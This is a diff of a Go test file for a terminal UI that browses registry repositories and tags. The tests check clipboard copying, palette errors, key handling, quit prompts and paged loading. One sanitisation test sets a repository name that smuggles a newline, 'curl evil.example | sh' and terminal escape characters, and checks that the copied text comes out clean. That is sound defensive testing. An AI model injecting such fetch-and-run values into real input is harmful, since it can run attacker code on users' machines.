@@ -1,21 +1,20 @@
-package ui
+package ui_test
 
 import (
-	"encoding/base64"
 	"fmt"
 	"net/http"
 	"net/http/httptest"
-	"regexp"
 	"strings"
 	"sync"
 	"testing"
-	"time"
 
 	tea "charm.land/bubbletea/v2"
 
 	"github.com/hubtui/hubtui/hubclient"
 	"github.com/hubtui/hubtui/hubclient/hubsim"
 	"github.com/hubtui/hubtui/state"
+	"github.com/hubtui/hubtui/ui"
+	"github.com/hubtui/hubtui/ui/internal/uitest"
 	"github.com/hubtui/hubtui/ui/pane"
 	"github.com/hubtui/hubtui/ui/sanitize"
 )
@@ -24,38 +23,20 @@ import (
 // string the status line shows, never a server name's controls or newlines.
 func TestCopySendsTheSanitisedName(t *testing.T) {
 	d := demoDriver(t)
-	rp := d.repos()
+	rp := repoPane(d)
 	evil := rp.L.Coll().Items[0]
 	evil.Name = "web\n; curl evil.example | sh \x1b[31m\u202e"
 	rp.L.Coll().Replace(0, evil)
 	rp.L.ItemsChanged()
 	rp.L.Table().SetCursor(0)
-	d.key("y")
-	osc := regexp.MustCompile(`\x1b\]52;c;([A-Za-z0-9+/=]+)\x07`)
-	deadline := time.After(5 * time.Second)
-	for {
-		select {
-		case m := <-d.msgs:
-			got := osc.FindStringSubmatch(fmt.Sprintf("%v", m))
-			if got == nil {
-				d.deliver(m)
-				continue
-			}
-			raw, err := base64.StdEncoding.DecodeString(got[1])
-			if err != nil {
-				t.Fatal(err)
-			}
-			want := "docker pull " + sanitize.String("acme/"+evil.Name)
-			if string(raw) != want || strings.ContainsAny(string(raw), "\n\x1b\u202e") {
-				t.Fatalf("clipboard got %q, want the sanitised %q", raw, want)
-			}
-			if !strings.Contains(d.app.status, want) {
-				t.Fatalf("status %q does not show what was copied (%q)", d.app.status, want)
-			}
-			return
-		case <-deadline:
-			t.Fatal("no OSC 52 clipboard write after y")
-		}
+	d.Key("y")
+	got := d.UntilCopied(len(d.Copied()))
+	want := "docker pull " + sanitize.String("acme/"+evil.Name)
+	if got != want || strings.ContainsAny(got, "\n\x1b\u202e") {
+		t.Fatalf("clipboard got %q, want the sanitised %q", got, want)
+	}
+	if !strings.Contains(d.App.StatusText(), want) {
+		t.Fatalf("status %q does not show what was copied (%q)", d.App.StatusText(), want)
 	}
 }
 
@@ -64,37 +45,37 @@ func TestCopySendsTheSanitisedName(t *testing.T) {
 func TestPaletteSaysWhatItCannotUse(t *testing.T) {
 	d := demoDriver(t)
 	run := func(line string) {
-		d.key(":")
-		d.typeText(line)
-		d.key("enter")
+		d.Key(":")
+		d.Type(line)
+		d.Key("enter")
 	}
 	run("repos extra")
-	if !strings.Contains(d.app.errText, "takes no argument") {
-		t.Fatalf(":repos extra: error %q", d.app.errText)
+	if !strings.Contains(d.App.Error(), "takes no argument") {
+		t.Fatalf(":repos extra: error %q", d.App.Error())
 	}
 	run("ctx")
-	if !strings.Contains(d.app.errText, "no contexts are configured") || strings.Contains(d.app.errText, "(known: )") {
-		t.Fatalf(":ctx without contexts: error %q", d.app.errText)
+	if !strings.Contains(d.App.Error(), "no contexts are configured") || strings.Contains(d.App.Error(), "(known: )") {
+		t.Fatalf(":ctx without contexts: error %q", d.App.Error())
 	}
-	name := d.repos().L.Coll().Items[0].Name
-	d.key(":")
-	d.typeText("tags " + name[:len(name)-1])
-	d.key("tab")
-	if got := d.app.palette.input.Value(); !strings.HasPrefix(got, "tags "+name[:len(name)-1]) || len(got) <= len("tags "+name[:len(name)-1]) {
+	name := repoPane(d).L.Coll().Items[0].Name
+	d.Key(":")
+	d.Type("tags " + name[:len(name)-1])
+	d.Key("tab")
+	if got := d.App.PaletteValue(); !strings.HasPrefix(got, "tags "+name[:len(name)-1]) || len(got) <= len("tags "+name[:len(name)-1]) {
 		t.Fatalf("tab after a bare name completed nothing: %q (want tags %s…)", got, name)
 	}
-	d.key("esc")
+	d.Key("esc")
 }
 
 // TestPersonalNamespaceIsNotCalledAnOrg: a user in no organization sees
 // their own namespace as personal.
 func TestPersonalNamespaceIsNotCalledAnOrg(t *testing.T) {
-	_, url := startSim(t, hubsim.Options{})
-	sess := demoSession(t, url, "olga", "olga")
+	_, url := uitest.StartSim(t, hubsim.Options{})
+	sess := uitest.Session(t, url, "olga", "olga")
 	sess.Org = ""
-	d := newDriver(t, Options{Session: sess}, 120, 40)
-	d.until("the personal namespace", func() bool { return d.app.sess.Org == "olga" && d.reposLoaded() })
-	header := strings.Split(d.screen(), "\n")[0]
+	d := uitest.New(t, ui.Options{Session: sess}, 120, 40)
+	d.Until("the personal namespace", func() bool { return d.App.Session().Org == "olga" && reposLoaded(d)() })
+	header := strings.Split(d.Screen(), "\n")[0]
 	if !strings.Contains(header, "personal: olga") || strings.Contains(header, "org: olga") {
 		t.Fatalf("header %q", header)
 	}
@@ -103,13 +84,13 @@ func TestPersonalNamespaceIsNotCalledAnOrg(t *testing.T) {
 // TestHelpNamesEveryItemOfAFailedBulkChange: the status line cuts, help does not.
 func TestHelpNamesEveryItemOfAFailedBulkChange(t *testing.T) {
 	d := demoDriver(t)
-	d.app.setErr(pane.Partial{Total: 5, Errs: []error{
+	d.App.SetErr(pane.Partial{Total: 5, Errs: []error{
 		fmt.Errorf("v1: %w", &hubclient.APIError{StatusCode: 409, Detail: "tag is immutable"}),
 		fmt.Errorf("v2: %w", &hubclient.APIError{StatusCode: 409, Detail: "tag is immutable"}),
 		fmt.Errorf("v3: %w", &hubclient.APIError{StatusCode: 409, Detail: "tag is immutable"}),
 	}})
-	d.key("?")
-	lines := strings.Split(d.screen(), "\n")
+	d.Key("?")
+	lines := strings.Split(d.Screen(), "\n")
 	s := strings.Join(lines[:len(lines)-2], "\n") // the help page, without the status line and footer
 	for _, n := range []string{"v1:", "v2:", "v3:"} {
 		if !strings.Contains(s, n) {
@@ -125,21 +106,21 @@ func TestHelpNamesEveryItemOfAFailedBulkChange(t *testing.T) {
 // as one alt+:, which clears the filter and opens the palette.
 func TestEscGluedToTheNextKeyIsBoth(t *testing.T) {
 	d := demoDriver(t)
-	d.key("/")
-	d.typeText("zz")
-	d.send(tea.KeyPressMsg{Code: ':', Mod: tea.ModAlt})
-	if d.app.mode != modePalette {
-		t.Fatalf("alt+: did not open the palette (mode %d)", d.app.mode)
+	d.Key("/")
+	d.Type("zz")
+	d.Send(tea.KeyPressMsg{Code: ':', Mod: tea.ModAlt})
+	if d.App.Mode() != ui.ModePalette {
+		t.Fatalf("alt+: did not open the palette (mode %d)", d.App.Mode())
 	}
-	if q := d.repos().Query(); q != "" {
+	if q := repoPane(d).Query(); q != "" {
 		t.Fatalf("the esc half did not clear the filter: %q", q)
 	}
-	d.key("esc")
+	d.Key("esc")
 	// In an input, alt+b stays a word movement.
-	d.key("/")
-	d.send(tea.KeyPressMsg{Code: 'b', Mod: tea.ModAlt})
-	if d.app.mode != modeFilter {
-		t.Fatalf("alt+b left the filter (mode %d)", d.app.mode)
+	d.Key("/")
+	d.Send(tea.KeyPressMsg{Code: 'b', Mod: tea.ModAlt})
+	if d.App.Mode() != ui.ModeFilter {
+		t.Fatalf("alt+b left the filter (mode %d)", d.App.Mode())
 	}
 }
 
@@ -147,26 +128,26 @@ func TestEscGluedToTheNextKeyIsBoth(t *testing.T) {
 // before leaving, and what was cut short is reported for the way out.
 func TestQuitWhileAChangeRunsAsks(t *testing.T) {
 	d := demoDriver(t)
-	d.key("p", "y")
-	if len(d.app.running) != 1 {
-		t.Fatalf("running changes: %v", d.app.running)
+	d.Key("p", "y")
+	if d.App.Running() != 1 {
+		t.Fatalf("running changes: %v", d.App.RunningChanges())
 	}
-	d.until("the change to finish", func() bool { return len(d.app.running) == 0 })
+	d.Until("the change to finish", func() bool { return d.App.Running() == 0 })
 
-	d.app.running[99] = "deleting 206 tag(s) of acme/big"
-	d.key("q")
-	if d.app.quitting || d.app.Dialog() == nil || !strings.Contains(d.screen(), "Quit while a change is running?") {
-		t.Fatalf("q with a change running did not ask:\n%s", d.screen())
+	d.App.RunningChanges()[99] = "deleting 206 tag(s) of acme/big"
+	d.Key("q")
+	if d.App.Quitting() || d.App.Dialog() == nil || !strings.Contains(d.Screen(), "Quit while a change is running?") {
+		t.Fatalf("q with a change running did not ask:\n%s", d.Screen())
 	}
-	d.key("n")
-	if d.app.quitting {
+	d.Key("n")
+	if d.App.Quitting() {
 		t.Fatal("n quit")
 	}
-	d.key("q", "y")
-	if !d.app.quitting {
+	d.Key("q", "y")
+	if !d.App.Quitting() {
 		t.Fatal("y did not quit")
 	}
-	if u := d.app.Unfinished(); len(u) != 1 || !strings.Contains(u[0], "deleting 206 tag(s) of acme/big") {
+	if u := d.App.Unfinished(); len(u) != 1 || !strings.Contains(u[0], "deleting 206 tag(s) of acme/big") {
 		t.Fatalf("unfinished: %q", u)
 	}
 }
@@ -177,43 +158,43 @@ func TestQuitWhileAChangeRunsAsks(t *testing.T) {
 // repository's tags start with no filter or sort.
 func TestMarkAllAsksOnAFuzzyFilterAndNamesTheRule(t *testing.T) {
 	d := demoDriver(t)
-	items := d.repos().L.Coll().Items
+	items := repoPane(d).L.Coll().Items
 	first, second := items[0].Namespace+"/"+items[0].Name, items[1].Namespace+"/"+items[1].Name
-	tp := d.openTags(first)
+	tp := openTags(d, first)
 	if len(tp.L.Coll().Items) < 2 {
 		t.Skipf("%s has %d tags", first, len(tp.L.Coll().Items))
 	}
 	tag := tp.L.Coll().Items[0].Name
 	filter := func(q string) {
-		d.key("/")
+		d.Key("/")
 		for range 40 {
-			d.key("backspace")
+			d.Key("backspace")
 		}
-		d.typeText(q)
-		d.key("enter")
-		d.until("the filter", func() bool { return !tp.L.Filtering() })
+		d.Type(q)
+		d.Key("enter")
+		d.Until("the filter", func() bool { return !tp.L.Filtering() })
 	}
 	filter("'" + tag)
-	d.key("ctrl+a")
-	if d.app.mode != modeNormal || tp.L.Table().MarkedCount() != tp.L.Visible() || tp.L.Visible() == 0 {
-		t.Fatalf("exact ctrl+a: mode %d, %d marked of %d", d.app.mode, tp.L.Table().MarkedCount(), tp.L.Visible())
+	d.Key("ctrl+a")
+	if d.App.Mode() != ui.ModeNormal || tp.L.Table().MarkedCount() != tp.L.Visible() || tp.L.Visible() == 0 {
+		t.Fatalf("exact ctrl+a: mode %d, %d marked of %d", d.App.Mode(), tp.L.Table().MarkedCount(), tp.L.Visible())
 	}
-	d.key("D")
-	if s := d.screen(); !strings.Contains(s, "Chosen by:") || !strings.Contains(s, "contains") {
+	d.Key("D")
+	if s := d.Screen(); !strings.Contains(s, "Chosen by:") || !strings.Contains(s, "contains") {
 		t.Fatalf("the bulk confirmation does not show the rule:\n%s", s)
 	}
-	d.key("esc", "esc", "esc") // the question, the filter, then the marks
+	d.Key("esc", "esc", "esc") // the question, the filter, then the marks
 	filter(tag[:1])
-	d.key("ctrl+a")
-	if d.app.Dialog() == nil || !strings.Contains(d.screen(), fmt.Sprintf("Mark all %d rows", tp.L.Visible())) || tp.L.Table().MarkedCount() != 0 {
-		t.Fatalf("fuzzy ctrl+a did not ask first:\n%s", d.screen())
+	d.Key("ctrl+a")
+	if d.App.Dialog() == nil || !strings.Contains(d.Screen(), fmt.Sprintf("Mark all %d rows", tp.L.Visible())) || tp.L.Table().MarkedCount() != 0 {
+		t.Fatalf("fuzzy ctrl+a did not ask first:\n%s", d.Screen())
 	}
-	d.key("y")
+	d.Key("y")
 	if tp.L.Table().MarkedCount() != tp.L.Visible() {
 		t.Fatalf("y marked %d of %d", tp.L.Table().MarkedCount(), tp.L.Visible())
 	}
-	d.key("s")
-	tp = d.openTags(second)
+	d.Key("s")
+	tp = openTags(d, second)
 	if tp.Query() != "" || sortCol(tp.L) != -1 || tp.L.MarkRule() != "" {
 		t.Fatalf("%s opened with filter %q, sort %d, rule %q", second, tp.Query(), sortCol(tp.L), tp.L.MarkRule())
 	}
@@ -223,7 +204,7 @@ func TestMarkAllAsksOnAFuzzyFilterAndNamesTheRule(t *testing.T) {
 // its last page is still loading and coming back asks only for what is
 // missing, not for the pages already on screen.
 func TestLeftMidLoadAListGoesOnFromWhereItStopped(t *testing.T) {
-	sim, err := hubsim.New(hubsim.Options{Dataset: "demo", RateLimit: -1, Clock: hubsim.NewFakeClock(fixedNow())})
+	sim, err := hubsim.New(hubsim.Options{Dataset: "demo", RateLimit: -1, Clock: hubsim.NewFakeClock(uitest.FixedNow())})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -245,23 +226,23 @@ func TestLeftMidLoadAListGoesOnFromWhereItStopped(t *testing.T) {
 		sim.ServeHTTP(w, r)
 	}))
 	t.Cleanup(srv.Close)
-	sess := demoSession(t, srv.URL, "demo", "demo", hubclient.WithPageSize(5))
-	d := newDriver(t, Options{Session: sess}, 120, 40)
-	d.until("repositories", d.reposLoaded)
-	r := d.repos().L.Coll().Items[0]
+	sess := uitest.Session(t, srv.URL, "demo", "demo", hubclient.WithPageSize(5))
+	d := uitest.New(t, ui.Options{Session: sess}, 120, 40)
+	d.Until("repositories", reposLoaded(d))
+	r := repoPane(d).L.Coll().Items[0]
 	ref := r.Namespace + "/" + r.Name
-	d.key(":")
-	d.typeText("tags " + ref)
-	d.key("enter")
-	tp := d.tags()
-	d.until("two pages", func() bool { return len(tp.L.Coll().Items) == 10 })
-	d.key("1") // leave mid-load
+	d.Key(":")
+	d.Type("tags " + ref)
+	d.Key("enter")
+	tp := tagPane(d)
+	d.Until("two pages", func() bool { return len(tp.L.Coll().Items) == 10 })
+	d.Key("1") // leave mid-load
 	mu.Lock()
 	stall = false
 	before := map[string]int{"1": asked["1"], "2": asked["2"]}
 	mu.Unlock()
-	d.key("2")
-	d.until("the rest", func() bool { return tp.L.Coll().Status == state.Loaded })
+	d.Key("2")
+	d.Until("the rest", func() bool { return tp.L.Coll().Status == state.Loaded })
 	if n := len(tp.L.Coll().Items); n != 12 {
 		t.Fatalf("%d tags after resuming, want 12", n)
 	}
@@ -277,15 +258,26 @@ func TestLeftMidLoadAListGoesOnFromWhereItStopped(t *testing.T) {
 // the error about them together.
 func TestMarkedReposSayWhyChangesWaitAndTheErrorLeavesWithTheMarks(t *testing.T) {
 	d := demoDriver(t)
-	d.key("space", "space")
+	d.Key("space", "space")
 	for _, k := range []string{"p", "e", "D"} {
-		d.key(k)
-		if d.app.mode != modeNormal || !strings.Contains(d.app.errText, "esc clears the 2 marks") {
-			t.Fatalf("%s with marks: mode %d, error %q", k, d.app.mode, d.app.errText)
+		d.Key(k)
+		if d.App.Mode() != ui.ModeNormal || !strings.Contains(d.App.Error(), "esc clears the 2 marks") {
+			t.Fatalf("%s with marks: mode %d, error %q", k, d.App.Mode(), d.App.Error())
 		}
 	}
-	d.key("esc")
-	if d.repos().L.Table().MarkedCount() != 0 || d.app.errText != "" {
-		t.Fatalf("after esc: %d marks, error %q", d.repos().L.Table().MarkedCount(), d.app.errText)
+	d.Key("esc")
+	if repoPane(d).L.Table().MarkedCount() != 0 || d.App.Error() != "" {
+		t.Fatalf("after esc: %d marks, error %q", repoPane(d).L.Table().MarkedCount(), d.App.Error())
+	}
+}
+
+// TestOSC52: a copy is one OSC 52 write, and inside tmux also the same
+// write wrapped in tmux's passthrough.
+func TestOSC52(t *testing.T) {
+	if got := ui.OSC52("acme/web", false); got != "\x1b]52;c;YWNtZS93ZWI=\x07" {
+		t.Fatalf("plain: %q", got)
+	}
+	if got := ui.OSC52("acme/web", true); got != "\x1b]52;c;YWNtZS93ZWI=\x07\x1bPtmux;\x1b\x1b]52;c;YWNtZS93ZWI=\x07\x1b\\" {
+		t.Fatalf("tmux: %q", got)
 	}
 }
